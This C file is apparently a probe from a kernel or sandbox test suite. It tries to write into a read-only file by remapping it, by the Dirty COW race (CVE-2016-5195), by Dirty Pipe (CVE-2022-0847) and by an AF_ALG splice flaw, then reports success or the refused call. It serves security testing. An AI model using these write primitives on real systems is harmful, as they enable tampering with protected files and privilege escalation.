// SPDX-License-Identifier: Apache-2.0
// Writes through the page cache to a file that it may only read: probe_page_cache WAY FILE. Prints
// `done`, or the call that was refused and its error. Whether the file has changed is seen from
// outside.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/if_alg.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TEXT   "changed"
#define LENGTH (sizeof(TEXT) - 1)
#define ROUNDS 20000

static const char *cache_refused(const char *call)
{
	static char text[100];

	snprintf(text, sizeof(text), "%s %s", call, strerrorname_np(errno));
	return text;
}

// Opened again for writing, mapped for writing, written by a second name in /proc.
static const char *cache_reopen(int fd)
{
	const int flags[] = {O_RDWR, O_WRONLY, O_RDWR | O_TRUNC, O_WRONLY | O_APPEND};
	char path[64];
	void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (map != MAP_FAILED)
		memcpy(map, TEXT, LENGTH);
	map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (map != MAP_FAILED && mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0)
		memcpy(map, TEXT, LENGTH);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		int again = open(path, flags[i] | O_CLOEXEC);

		if (again < 0)
			continue;
		if (write(again, TEXT, LENGTH) < 0)
			return cache_refused("write");
		close(again);
	}
	return "done";
}

static void *cache_forget(void *map)
{
	for (int i = 0; i < ROUNDS; i++)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

// CVE-2016-5195: a private mapping is written through /proc/self/mem while its copy is dropped.
static const char *cache_copy_on_write(int fd)
{
	char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	pthread_t thread;

	if (map == MAP_FAILED || memory < 0)
		return cache_refused("mmap");
	if (pthread_create(&thread, NULL, cache_forget, map) != 0)
		return cache_refused("clone");
	for (int i = 0; i < ROUNDS; i++)
		if (pwrite(memory, TEXT, LENGTH, (off_t)(intptr_t)map) < 0)
			return cache_refused("pwrite");
	pthread_join(thread, NULL);
	return "done";
}

// CVE-2022-0847: the buffers of a pipe keep the flag that lets a write merge into a file's page.
static const char *cache_pipe(int fd)
{
	static char bytes[65536];
	off_t offset = 0;
	int ends[2];

	if (pipe2(ends, O_NONBLOCK) < 0)
		return cache_refused("pipe");
	if (write(ends[1], bytes, sizeof(bytes)) < 0 || read(ends[0], bytes, sizeof(bytes)) < 0)
		return cache_refused("fill");
	if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1)
		return cache_refused("splice");
	return write(ends[1], TEXT, LENGTH) < 0 ? cache_refused("write") : "done";
}

// CVE-2026-31431: decryption in place of pages that were spliced into a socket of the kernel's
// cryptography.
static const char *cache_crypto(int fd)
{
	struct sockaddr_alg name = {
		.salg_family = AF_ALG,
		.salg_type = "aead",
		.salg_name = "authencesn(hmac(sha256),cbc(aes))",
	};
	int algorithm = socket(AF_ALG, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), operation, ends[2];
	off_t offset = 0;
	char bytes[64];

	if (algorithm < 0)
		return cache_refused("socket");
	if (bind(algorithm, (struct sockaddr *)&name, sizeof(name)) < 0)
		return cache_refused("bind");
	operation = accept(algorithm, NULL, NULL);
	if (operation < 0 || pipe(ends) < 0)
		return cache_refused("accept");
	if (splice(fd, &offset, ends[1], NULL, LENGTH, 0) < 0 ||
	    splice(ends[0], NULL, operation, NULL, LENGTH, 0) < 0)
		return cache_refused("splice");
	return recv(operation, bytes, sizeof(bytes), MSG_DONTWAIT) < 0 ? cache_refused("recv")
								       : "done";
}

static const struct {
	const char *name;
	const char *(*write)(int fd);
} ways[] = {
	{"reopen", cache_reopen},
	{"copy-on-write", cache_copy_on_write},
	{"pipe", cache_pipe},
	{"crypto", cache_crypto},
};

int main(int argc, char **argv)
{
	int fd = argc == 3 ? open(argv[2], O_RDONLY | O_CLOEXEC) : -1;

	for (size_t i = 0; argc == 3 && i < sizeof(ways) / sizeof(ways[0]); i++) {
		if (strcmp(ways[i].name, argv[1]) != 0)
			continue;
		puts(fd < 0 ? cache_refused("open") : ways[i].write(fd));
		return 0;
	}
	return 2;
}
